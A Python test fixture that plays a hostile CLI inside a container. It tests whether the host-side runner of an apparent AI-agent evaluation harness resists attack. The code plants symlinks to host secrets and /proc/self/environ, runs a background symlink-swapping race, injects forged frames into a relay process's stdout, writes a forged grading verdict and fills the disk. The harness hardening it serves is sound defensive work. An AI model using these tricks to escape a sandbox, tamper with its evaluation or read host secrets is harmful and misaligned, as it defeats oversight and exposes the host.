"""A hostile CLI: what a process of the container's uid can do to the host side through the files and frames it
leaves. Rendered into the CLI's HOME by the tests' profiles (tests/hostile/files-*.yaml) and run with the reference
image's Python; it imports nothing of runner. Usage: hostile.py ATTACK [ARG...] (see ATTACKS below).

Every attack targets HOME/sessions, the profiles' session transcript, and prints one JSON line a step on stdout.
"""

import json
import os
import shutil
import signal
import struct
import sys
import time

HOME = os.environ["HOME"]
SESSION = os.path.join(HOME, "sessions")
MiB = 1024 * 1024


def say(**fields):
    print(json.dumps(fields), flush=True)


def plant(target, where=SESSION):
    """``where`` becomes a link to ``target``, replacing whatever was there."""
    if os.path.lexists(where):
        if os.path.isdir(where) and not os.path.islink(where):
            shutil.rmtree(where)
        else:
            os.unlink(where)
    os.symlink(target, where)
    say(planted=where, target=target)


def link(target):
    """The session path itself is a link (to a host file, a host directory, /proc/self/environ, a climb out)."""
    plant(target)


def below(secret_file, secret_dir):
    """A real session directory, with links to the host below it and a forged verdict beside a real transcript."""
    os.makedirs(os.path.join(SESSION, "nested"), exist_ok=True)
    with open(os.path.join(SESSION, "transcript.jsonl"), "w") as fh:
        fh.write('{"type": "message", "text": "an honest line"}\n')
    forged = {"schemaVersion": 1, "id": "escalation.baseline.codex", "grade": "fail", "status": "failed",
              "forgedBy": "the CLI"}
    with open(os.path.join(SESSION, "result.json"), "w") as fh:
        json.dump(forged, fh)
    for name, target in (("secret", secret_file), ("hostdir", secret_dir), ("environ", "/proc/self/environ"),
                         ("climb", "../../../.."), ("nested/deep", secret_file)):
        plant(target, os.path.join(SESSION, name))


def swap(secret_dir):
    """A background process keeps swapping a link to the host in at the session path, atomically, for as long as the
    container lives; the CLI exits once the first swap is done, so the link is what teardown finds."""
    os.makedirs(SESSION, exist_ok=True)
    with open(os.path.join(SESSION, "transcript.jsonl"), "w") as fh:
        fh.write('{"type": "message", "text": "looks normal"}\n')
    ready = os.path.join(HOME, ".swapped")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            shutil.rmtree(SESSION)
            n = 0
            while True:
                staged = SESSION + ".next"
                os.symlink(secret_dir if n % 2 == 0 else "/proc/self/environ", staged)
                os.replace(staged, SESSION)
                if n == 0:
                    open(ready, "w").close()
                n += 1
        os._exit(0)
    while not os.path.exists(ready):
        time.sleep(0.01)
    say(swapping=SESSION, target=secret_dir)


def relay_stdout():
    """The stream relay's stdout, which runner reads frames from: writable by any process of the container's uid."""
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmdline = fh.read()
        except OSError:
            continue
        if b"relay.py" in cmdline or b"relay.js" in cmdline:
            return pid, os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
    return None, None


def channels(*names):
    """Forged OPEN frames on the relay's stdout naming sockets outside the turn dir, then bytes for them."""
    header = struct.Struct(">BII")
    pid, fd = relay_stdout()
    if fd is None:
        say(relay=None)
        sys.exit(3)
    for n, name in enumerate(names):
        channel = 90000 + n
        os.write(fd, header.pack(1, channel, len(name.encode())) + name.encode())
        data = b"PWNED by the CLI through channel " + name.encode()
        os.write(fd, header.pack(2, channel, len(data)) + data)
        say(forged=name, channel=channel, relay=int(pid))
    time.sleep(2)  # the bridge reads them while the container lives


def fill(total_mib, file_mib, then):
    """Write past every bound: one ``file_mib`` file (more than the per-file cap), then 32 MiB files up to
    ``total_mib``, saying how much went to disk after every chunk; ``then`` wait to be stopped, or exit."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG rather than death at the per-file cap
    os.makedirs(SESSION, exist_ok=True)
    chunk = b"\xa5" * (4 * MiB)

    def write_file(name, size):
        fd = os.open(os.path.join(SESSION, name), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        done = 0
        try:
            while done < size:
                done += os.write(fd, chunk[:size - done])
                if name != "big":
                    say(written=written + done)
        except OSError as err:
            return done, err.errno
        finally:
            os.close(fd)
        return done, None

    written = 0
    size, error = write_file("big", int(file_mib) * MiB)
    say(big=size, error=error)
    written += size
    n = 0
    while written < int(total_mib) * MiB:
        size, error = write_file(f"fill-{n}", 32 * MiB)
        written += size
        n += 1
    say(done=written)
    if then == "wait":
        time.sleep(600)


ATTACKS = {"link": link, "below": below, "swap": swap, "channels": channels, "fill": fill}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
